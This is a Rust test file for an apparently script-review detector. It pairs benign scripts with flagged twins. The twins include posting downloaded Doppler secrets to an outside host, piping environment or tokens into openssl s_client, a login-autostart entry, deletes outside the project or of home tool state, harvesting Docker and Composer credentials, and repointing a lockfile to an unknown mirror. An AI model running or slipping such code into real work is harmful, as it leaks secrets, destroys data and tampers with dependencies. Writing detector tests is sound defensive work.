//! recall48's rules without their cost (issue 17): the names of downloaded secrets are no
//! secret, and a TLS client fed only words the script spells itself is a certificate probe.
//! Each row has its twin: the values of the secrets shown, data read from a file or the
//! environment fed to the TLS client, stay flagged.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};
use Verdict::{Clean, Dangerous};

/// `Object.keys(secrets)`, `for (const [name, value] of Object.entries(secrets))`,
/// `secrets.keys()`: what each secret is called (`DATABASE_URL`) is shown to say which ones
/// were loaded or refused. The values shown (by the pair's second place, by a member, by
/// `Object.values`) stay a secret shown.
#[test]
fn the_names_of_downloaded_secrets_are_no_secret() {
    let ts = |body: &str| {
        format!(
            "import {{ spawnSync }} from 'node:child_process';\n\nconst PROTECTED = new Set(['PATH', 'HOME', 'NODE_OPTIONS']);\n\nfunction load(config: string): Record<string, string> {{\n  const res = spawnSync('doppler', ['secrets', 'download', '--no-file', '--format', 'json', '--config', config], {{ encoding: 'utf8' }});\n  if (res.status !== 0) throw new Error('doppler failed');\n  return JSON.parse(res.stdout) as Record<string, string>;\n}}\n\nconst secrets = load('dev');\n{body}\nspawnSync('npm', ['run', 'dev'], {{ stdio: 'inherit', env: {{ ...process.env, ...secrets }} }});\n"
        )
    };
    let entries = |shown: &str| {
        ts(&format!(
            "for (const [name, value] of Object.entries(secrets)) {{\n  if (PROTECTED.has(name)) {{\n    console.error(`refusing ${{{shown}}}: it would override a protected variable`);\n    process.exit(2);\n  }}\n}}"
        ))
    };
    let py = |shown: &str| {
        format!(
            "import json\nimport os\nimport subprocess\n\nraw = subprocess.run([\"doppler\", \"secrets\", \"download\", \"--no-file\", \"--format\", \"json\"], capture_output=True, text=True, check=True).stdout\nsecrets = json.loads(raw)\nfor name in sorted({shown}):\n    print(f\"loaded {{name}}\")\nsubprocess.run([\"make\", \"dev\"], env={{**os.environ, **secrets}}, check=True)\n"
        )
    };
    rows(&[
        (Ts, entries("name"), Clean, ""),
        (
            Ts,
            ts("console.log(`loaded ${Object.keys(secrets).sort().join(', ')}`);"),
            Clean,
            "",
        ),
        (Py, py("secrets.keys()"), Clean, ""),
        // Twins: the value of the pair, the values, a value by its name.
        (Ts, entries("value"), Dangerous, "exfiltration"),
        (
            Ts,
            ts("console.log(`loaded ${Object.values(secrets).join(', ')}`);"),
            Dangerous,
            "exfiltration",
        ),
        (
            Ts,
            ts("for (const k of Object.keys(secrets)) console.log(k, secrets[k]);"),
            Dangerous,
            "exfiltration",
        ),
        (Py, py("secrets.values()"), Dangerous, "exfiltration"),
        (
            Js,
            "const { execFileSync } = require('node:child_process');\nconst https = require('node:https');\n\nconst secrets = JSON.parse(execFileSync('doppler', ['secrets', 'download', '--no-file', '--format', 'json'], { encoding: 'utf8' }));\nconst req = https.request({ hostname: 'collect.example-metrics.net', path: '/v1', method: 'POST' });\nreq.end(JSON.stringify(Object.entries(secrets)));\n".to_owned(),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// `echo QUIT | openssl s_client ...`, `: | openssl s_client ...`: the input is words the
/// script spells (or nothing at all), no data of the user's: a handshake that reads the
/// server's certificate. A report read from a file, the environment, or a token fed to the
/// client are sent to that host.
#[test]
fn a_tls_client_fed_only_the_scripts_own_words_reads_a_certificate() {
    let sh = |feed: &str, host: &str| {
        format!(
            "#!/usr/bin/env bash\nset -euo pipefail\nhost=\"${{1:-{host}}}\"\nend=$({feed} | openssl s_client -connect \"$host:443\" -servername \"$host\" 2>/dev/null | openssl x509 -noout -enddate)\necho \"$host: $end\"\n"
        )
    };
    rows(&[
        (Sh, sh("echo QUIT", "api.example.com"), Clean, ""),
        (Sh, sh(":", "api.example.com"), Clean, ""),
        (Sh, sh("printf 'Q\\n'", "203.0.113.9"), Clean, ""),
        // Twins: a file's records, the environment, a token.
        (
            Sh,
            sh("cat build/scan-report.json", "203.0.113.9"),
            // A file's whole content sent to a raw IP (recall51: project-data-to-network).
            Dangerous,
            "exfiltration",
        ),
        (Sh, sh("env", "api.example.com"), Dangerous, "exfiltration"),
        (
            Sh,
            sh("printf '%s\\n' \"$NPM_TOKEN\"", "api.example.com"),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// `pipeline(Readable.from(lines), fs.createWriteStream(dest))`: the file is written whatever
/// the streams carry, as `writeFileSync(dest, text)` is; a desktop entry streamed into
/// `~/.config/autostart` starts at every login. The same entry streamed into the project is
/// a file of the project.
#[test]
fn a_stream_pipeline_writes_its_last_file() {
    let js = |dir: &str| {
        r#"const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { pipeline } = require('node:stream/promises');
const { Readable } = require('node:stream');

const entry = {
  dir: DIR,
  name: 'notes-sync.desktop',
  lines: ['[Desktop Entry]', 'Type=Application', `Exec=node ${__filename} --watch`, ''],
};

async function install() {
  fs.mkdirSync(entry.dir, { recursive: true });
  await pipeline(Readable.from(entry.lines.map((l) => `${l}\n`)), fs.createWriteStream(path.join(entry.dir, entry.name)));
}

install().catch((e) => {
  console.error(e);
  process.exit(1);
});
"#
        .replace("DIR", dir)
    };
    rows(&[
        (
            Js,
            js("path.join(process.cwd(), 'dist', 'desktop')"),
            Clean,
            "",
        ),
        // Twin: the same entry into the desktop's autostart directory.
        (
            Js,
            js("path.join(os.homedir(), '.config', 'autostart')"),
            Dangerous,
            "persistence",
        ),
    ]);
}

/// `SETS[mode]` of an object whose members are lists, `mode` chosen at run time: a loop over
/// it sees the elements of every list (a `const enum` member `'..'` among them), not only
/// the first list's.
#[test]
fn a_list_picked_from_a_table_at_run_time_is_any_of_its_lists() {
    let ts = |deep: &str| {
        r#"import { rmSync } from 'node:fs';
import path from 'node:path';

const enum Dir {
  Build = 'build',
  Cache = '.cache/tsc',
  Deep = 'DEEP',
}

const ROOT = process.cwd();

const SETS: Record<string, Dir[]> = {
  quick: [Dir.Build],
  deep: [Dir.Build, Dir.Cache, Dir.Deep],
};

function wipe(dirs: Dir[]): void {
  for (const d of dirs) {
    rmSync(path.resolve(ROOT, d), { recursive: true, force: true });
  }
}

const mode = process.argv.includes('--deep') ? 'deep' : 'quick';
wipe(SETS[mode]);
"#
        .replace("DEEP", deep)
    };
    rows(&[
        (Ts, ts("coverage"), Clean, ""),
        // Twin: the deep set climbs out of the project.
        (Ts, ts(".."), Dangerous, "destructive"),
    ]);
}

/// `JSON.parse(text, reviver)`: the reviver is given each key and value of the text, so
/// what it keeps of a credential file is that file's secrets; written to a temporary file
/// others may read, they are harvested. The same reviver over a file of the project keeps
/// project settings.
#[test]
fn a_json_revivers_values_are_what_the_text_holds() {
    let js = |configs: &str| {
        r#"const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const CONFIGS = [CONFIGS_HERE];
const OUT = path.join(os.tmpdir(), 'login-report.json');

const seen = [];

function collect(key, value) {
  if (typeof value === 'string' && /(auth|token|password)/i.test(key)) {
    seen.push({ key, value });
  }
  return value;
}

for (const file of CONFIGS) {
  if (!fs.existsSync(file)) continue;
  JSON.parse(fs.readFileSync(file, 'utf8'), collect);
}
fs.writeFileSync(OUT, JSON.stringify({ seen }, null, 2), { mode: 0o644 });
console.log(`${seen.length} logins found`);
"#
        .replace("CONFIGS_HERE", configs)
    };
    rows(&[
        (
            Js,
            js("path.join(process.cwd(), 'config', 'services.json')"),
            Clean,
            "",
        ),
        // Twin: the user's registry logins.
        (
            Js,
            js(
                "path.join(os.homedir(), '.docker', 'config.json'), path.join(os.homedir(), '.composer', 'auth.json')",
            ),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// `text.replace(re, (all, rest) => `..."${base}${rest}"`)`: the text holds what the callback
/// returns, so a lockfile's `resolved` URLs pointed at a registry not on the allow list are a
/// lockfile pointed there. Pointed at the public registry it is the lockfile as it was.
#[test]
fn a_replace_callbacks_return_is_in_the_text() {
    let js = |pick: &str| {
        r#"const fs = require('node:fs');
const path = require('node:path');

const LOCK = path.join(process.cwd(), 'package-lock.json');
const MIRRORS = {
  upstream: 'https://registry.npmjs.org/',
  fast: 'https://npm-mirror.quickpkgs.example.org/',
};

function pointAt(text, base) {
  return text.replace(/"resolved": "https:\/\/registry\.npmjs\.org\/([^"]+)"/g, (_all, rest) => {
    return `"resolved": "${base}${rest}"`;
  });
}

const text = fs.readFileSync(LOCK, 'utf8');
fs.writeFileSync(LOCK, pointAt(text, MIRRORS[process.env.MIRROR || 'PICK'] ?? MIRRORS.upstream));
"#
        .replace("PICK", pick)
    };
    rows(&[
        (Js, js("upstream"), Clean, ""),
        // Twin: the default is the unknown mirror.
        (Js, js("fast"), Dangerous, "config-tampering"),
    ]);
}

/// `itertools.chain(a(), b())`: a loop over it sees the elements of both lists, so a tree
/// delete over the chain deletes the user's tool state listed in the second.
#[test]
fn a_chain_of_lists_is_the_elements_of_each() {
    let py = |names: &str| {
        r#"import itertools
import shutil
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]


def local_dirs():
    return [ROOT / "build", ROOT / ".pytest_cache"]


def more_dirs():
    base = BASE
    return [base / n for n in [NAMES]]


for d in itertools.chain(local_dirs(), more_dirs()):
    if d.is_dir():
        shutil.rmtree(d)
        print(f"removed {d}")
"#
        .replace("NAMES", names)
    };
    rows(&[
        (
            Py,
            py("\"dist\", \".mypy_cache\"").replace("BASE", "ROOT"),
            Clean,
            "",
        ),
        // Twin: the user's docker and minikube state.
        (
            Py,
            py("\".docker\", \".minikube\"").replace("BASE", "Path.home()"),
            Dangerous,
            "destructive",
        ),
    ]);
}
